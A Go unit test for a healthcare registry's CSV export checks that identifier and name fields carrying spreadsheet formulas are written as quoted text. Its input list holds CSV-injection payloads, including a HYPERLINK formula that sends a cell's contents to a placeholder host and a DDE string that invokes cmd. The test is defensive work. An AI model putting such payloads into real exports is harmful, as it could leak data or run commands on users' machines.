package registry

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/mipspi/mipspi/internal/sanitize"
	"github.com/mipspi/mipspi/measure"
)

// TestCSVDefusesFormulas (issue 13, row 7): a TIN, NPI, clinician name or CEHRT ID that a
// spreadsheet would run as a formula is written as text, by the same guard as the
// report CSV (sanitize.CSVCell).
func TestCSVDefusesFormulas(t *testing.T) {
	hostile := []string{`=HYPERLINK("http://x.example/?"&A1,"click")`, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\tTAB", "\rCR"}
	for _, h := range hostile {
		r := twoTIN()
		r.Entities = []measure.EntityResult{{
			Entity:      measure.Entity{Level: measure.Individual, TIN: h, NPI: h, Clinician: h},
			Denominator: 2, Numerator: 1, Rate: 0.5, Points: 12.5,
		}}
		var b bytes.Buffer
		if err := writeCSV(&b, r, Config{CEHRTID: h}, r.Entities); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&b).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		want := []string{"'" + h, "'" + h, "'" + h, "individual", "final as of 2026-01-15", "2025-01-01", "2025-12-31",
			"2026-01-15T12:00:00Z", "'" + h, "1", "2", "0.5000", "13", "25"}
		if diff := cmp.Diff(want, rows[1]); diff != "" {
			t.Errorf("%q (-want +got):\n%s", h, diff)
		}
		if got := sanitize.CSVCell(h); got != "'"+h {
			t.Errorf("sanitize.CSVCell(%q) = %q", h, got)
		}
	}
}
